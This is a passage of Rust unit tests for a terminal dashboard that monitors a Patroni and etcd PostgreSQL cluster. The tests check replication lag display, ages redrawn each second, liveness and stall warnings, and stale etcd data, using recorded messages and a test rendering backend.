    };
    assert!(content.contains("changed (value hidden)"), "{content}");
    assert!(!content.contains("secret-"), "{content}");
}

/// The cluster model alone, fed a recording of the messages an app saw: no screen, no
/// session, no keys. Two models side by side reach the same state, and the same as the
/// app's own model.
#[test]
fn a_model_fed_from_recorded_messages_needs_no_screen() {
    let now = Instant::now();
    let mut leader = status("rest/patroni_leader.json");
    leader.xlog.location = Some(67108864 + 5 * 1024 * 1024);
    let rest = |member: &str, s: crate::patroni::PatroniStatus| Msg::Rest {
        member: member.into(),
        at: now,
        result: Ok(Box::new(s)),
    };
    let recording = vec![
        Msg::Dcs(now, snapshot(healthy_kvs())),
        rest("pg2", replica_behind(0)),
        rest("pg3", replica_behind(1536 * 1024)),
        rest("pg1", leader),
        Msg::Tick(later(now, 1)),
    ];
    let endpoints = vec!["http://127.0.0.1:24000".to_string()];
    let mut a = App::new(AppConfig::new("demo", "/service/", endpoints.clone()), now);
    let mut m1 = Model::new("demo", "/service/", endpoints, now);
    let mut m2 = m1.clone();
    for msg in recording {
        a.update(msg.clone());
        m1.update(msg.clone());
        m2.update(msg);
    }
    assert_eq!(m1.rows().len(), 3);
    assert_eq!(m1.rows(), a.rows());
    assert_eq!(m1.summary(), m2.summary());
    assert_eq!(m1.summary(), a.model.summary());
    // (the app also judges health on the tick and logs what it raises: the model's own
    // events are the same)
    let own = |m: &Model| {
        m.events
            .iter()
            .filter(|e| !matches!(e.kind, events::EventKind::Finding { .. }))
            .count()
    };
    assert!(
        a.model.events.len() > own(&a.model),
        "pg3's lag is a finding"
    );
    assert_eq!(own(&m1), own(&a.model));
    assert_eq!(m1.events.len(), own(&a.model));
    assert_eq!(m1.polled(), a.model.polled());
}

#[test]
fn a_toggle_is_hinted_by_what_it_does_now() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    let word = |a: &App, k: &str| {
        a.hints()
            .into_iter()
            .find(|(key, _)| key == k)
            .map(|(_, w)| w)
    };
    assert_eq!(word(&a, "p"), Some("pause"));
    a.model.logs_configured = true;
    a.update(key('l'));
    assert_eq!(word(&a, "f"), Some("pause"), "following: f pauses");
    a.update(key('f'));
    assert_eq!(word(&a, "f"), Some("follow"), "paused: f follows again");
}

/// Draw `a` as the runtime does and tell it what the frame showed.
fn draw_frame(a: &mut App) -> String {
    let theme = crate::theme::Theme::load(None, false).expect("built-in theme");
    let mut t = ratatui::Terminal::new(ratatui::backend::TestBackend::new(120, 40)).expect("tb");
    t.draw(|f| crate::ui::render(f, a, &theme)).expect("draw");
    a.drawn(crate::ui::ages_drawn());
    let buf = t.backend().buffer();
    (0..40)
        .map(|y| (0..120).map(|x| buf[(x, y)].symbol()).collect::<String>() + "\n")
        .collect()
}

#[test]
fn an_age_on_screen_is_redrawn_each_second_and_no_age_costs_no_frame() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    let fresh = |a: &mut App, at: Instant| {
        rest_ok(a, "pg1", status("rest/patroni_leader.json"), at);
        rest_ok(a, "pg2", replica_behind(0), at);
        a.update(Msg::Dcs(at, DcsEvent::Progress { revision: 42 }));
    };
    // pg3's API stops answering: its API cell shows `✗ <age>`
    fresh(&mut a, later(now, 1));
    rest_err(&mut a, "pg3", "connection refused", later(now, 1));
    fresh(&mut a, later(now, 4));
    rest_err(&mut a, "pg3", "connection refused", later(now, 4));
    // (the runtime drains its queue before each frame: health is judged then)
    a.update(Msg::Drained(later(now, 4)));
    let screen = draw_frame(&mut a);
    assert!(screen.contains("✗ 4s"), "{screen}");
    assert!(!a.dirty);
    // within the same second: nothing
    a.update(Msg::Tick(
        later(now, 4) + std::time::Duration::from_millis(300),
    ));
    assert!(!a.dirty, "a tick in the second already drawn");
    // the next second: a frame, and it shows the age moved
    a.update(Msg::Tick(later(now, 5)));
    assert!(a.dirty, "an age on screen: the next second is drawn");
    let screen = draw_frame(&mut a);
    assert!(screen.contains("✗ 5s"), "{screen}");
    a.update(Msg::Tick(later(now, 6)));
    assert!(a.dirty, "and the one after");

    // pg3 answers again: no age left on screen; ticks alone draw nothing
    // (and caught up: a lag over the limit is a finding, whose age the header shows)
    fresh(&mut a, later(now, 6));
    rest_ok(&mut a, "pg3", replica_behind(0), later(now, 6));
    fresh(&mut a, later(now, 6));
    // judged (the clear drawn) once Health::EVERY has passed since the tick's judgement
    a.update(Msg::Drained(later(now, 6) + diagnosis::Health::EVERY));
    let screen = draw_frame(&mut a);
    assert!(!screen.contains("✗"), "{screen}");
    // (its API cell changed back to ok: that fades with frames of its own, `change.rs`)
    let faded = later(now, 6) + change::FADE;
    fresh(&mut a, faded);
    rest_ok(&mut a, "pg3", replica_behind(0), faded);
    a.update(Msg::Tick(faded));
    draw_frame(&mut a);
    for ms in [500, 1_000, 2_000] {
        a.update(Msg::Tick(faded + std::time::Duration::from_millis(ms)));
        assert!(
            !a.dirty,
            "no age on screen {ms} ms after the fade: no frame"
        );
    }
}

#[test]
fn no_view_formats_an_age_itself() {
    // every relative time drawn goes through ui::ago, or the clock does not know it is on
    // screen and it freezes on an idle cluster
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/ui");
    let mut checked = 0;
    for e in std::fs::read_dir(&dir).expect("src/ui") {
        let p = e.expect("entry").path();
        let src = std::fs::read_to_string(&p).expect("read");
        checked += 1;
        if p.ends_with("mod.rs") {
            continue;
        }
        assert!(
            !src.contains("human_age") && !src.contains("schedule::countdown"),
            "{} formats an age (or a countdown) without ui::ago (ui::countdown)",
            p.display()
        );
    }
    assert!(checked > 5, "read {checked} files");
}

#[test]
fn the_header_sign_of_life_moves_with_answers_and_turns_to_a_warning() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    a.update(Msg::Dcs(later(now, 1), DcsEvent::Progress { revision: 42 }));
    rest_ok(
        &mut a,
        "pg1",
        status("rest/patroni_leader.json"),
        later(now, 1),
    );
    assert_eq!(a.model.liveness(), Liveness::Confirmed("+1s".into()));
    let screen = draw_frame(&mut a);
    assert!(screen.contains("as of +1s"), "{screen}");
    // REST answers on, etcd too: the sign moves (one frame), a tick adds none
    a.update(Msg::Dcs(later(now, 2), DcsEvent::Progress { revision: 42 }));
    rest_ok(
        &mut a,
        "pg1",
        status("rest/patroni_leader.json"),
        later(now, 2),
    );
    assert!(
        !a.dirty,
        "the sign is drawn with the clock's tick, not per answer"
    );
    a.update(Msg::Tick(later(now, 2)));
    assert!(a.dirty, "the sign moved");
    draw_frame(&mut a);
    a.update(Msg::Tick(
        later(now, 2) + std::time::Duration::from_millis(500),
    ));
    assert!(!a.dirty);
    // etcd goes quiet (REST still answers): a warning naming it, once past the limit
    for s in 3..=10 {
        rest_ok(
            &mut a,
            "pg1",
            status("rest/patroni_leader.json"),
            later(now, s),
        );
        a.update(Msg::Tick(later(now, s)));
        assert!(
            matches!(a.model.liveness(), Liveness::Confirmed(_)),
            "{s}: etcd quiet for {} s: not yet",
            s - 2
        );
    }
    rest_ok(
        &mut a,
        "pg1",
        status("rest/patroni_leader.json"),
        later(now, 11),
    );
    match a.model.liveness() {
        Liveness::Stalled {
            etcd: Some(d),
            rest: None,
        } => assert_eq!(d.as_secs(), 9),
        other => panic!("{other:?}"),
    }
    let screen = draw_frame(&mut a);
    assert!(screen.contains("STALLED: etcd 9s"), "{screen}");
    a.update(Msg::Tick(later(now, 12)));
    assert!(a.dirty, "the stall's age moves with the clock");
}

#[test]
fn the_etcd_keys_footer_says_how_long_the_figure_is_unconfirmed() {
    let now = Instant::now();
    let mut a = healthy_live(now);
    // pg3's API stops answering at 1 s; the leader goes on
    for s in 1..=5 {
        rest_ok(
            &mut a,
            "pg1",
            status("rest/patroni_leader.json"),
            later(now, s),
        );
        rest_err(&mut a, "pg3", "timed out", later(now, s));
        a.update(Msg::Dcs(later(now, s), DcsEvent::Progress { revision: 42 }));
    }
    let rows = a.rows();
    let pg3 = rows.iter().find(|r| r.name == "pg3").unwrap();
    // last live position from pg3 at 0 s (healthy_live): 5 s without one, whatever the
    // age of its key
    assert_eq!(
        pg3.lag_source,
        members::LagSource::Dcs(Some(std::time::Duration::from_secs(5)))
    );
    let screen = draw_frame(&mut a);
    assert!(
        screen.contains("~ lag from etcd member keys: no live figure for 5s"),
        "{screen}"
    );
}

#[test]
fn etcd_unreachable_from_the_start_is_no_data_not_stale() {
    let now = Instant::now();
    let mut a = App::new(
        AppConfig::new("demo", "/service/", vec!["http://127.0.0.1:24000".into()]),
        now,
    );
    a.update(Msg::Dcs(
        later(now, 1),
        DcsEvent::Down {
            endpoint: "http://127.0.0.1:24000".into(),
            error: "etcd unavailable (down, or not listening there)".into(),
        },
    ));
    // the source tries again and again: a try and its failure confirm nothing, so the
    // sign of life never says `as of` (on the sandbox it moved every second while DOWN)
    for s in 2..=9 {
        let ep = "http://127.0.0.1:24000".to_string();
        a.update(Msg::Dcs(
            later(now, s),
            DcsEvent::Connecting {
                endpoint: ep.clone(),
            },
        ));
        a.update(Msg::Dcs(
            later(now, s),
            DcsEvent::Down {
                endpoint: ep,
                error: "etcd unavailable (down, or not listening there)".into(),
            },
        ));
        a.update(Msg::Tick(later(now, s)));
        assert!(
            !matches!(a.model.liveness(), Liveness::Confirmed(_)),
            "{s}: {:?}",
            a.model.liveness()
        );
    }
    assert_eq!(
        a.model.liveness(),
        Liveness::Stalled {
            etcd: Some(std::time::Duration::from_secs(9)),
            rest: None
        }
    );
    let screen = draw_frame(&mut a);
    assert!(!screen.contains("STALE"), "{screen}");
    assert!(!screen.contains("as of"), "{screen}");
    assert!(screen.contains("STALLED: etcd 9s"), "{screen}");
    // the badge gives its reason up to the health finding beside it when the line is
    // short; the reason is on screen either way (the DOWN line, the members pane)
    assert!(screen.contains("no etcd data yet"), "{screen}");
    assert!(
        screen.contains("etcd unavailable (down, or not listening there)"),
        "{screen}"
    );
    // once data was loaded and etcd went away, it is stale, with its age
    let mut b = healthy_live(now);
    b.update(Msg::Dcs(
        later(now, 1),
        DcsEvent::Down {
            endpoint: "http://127.0.0.1:24000".into(),
            error: "etcd unavailable (down, or not listening there)".into(),
        },
    ));
    b.update(Msg::Tick(later(now, 4)));
    let screen = draw_frame(&mut b);
    // (live until it went down at 1 s); judged once, by the etcd-stale rule, shown once
    assert!(screen.contains("STALE: etcd data is 3s old"), "{screen}");
    let header: String = screen.lines().take(3).collect();
    assert_eq!(header.matches("etcd data is").count(), 1, "{screen}");
}
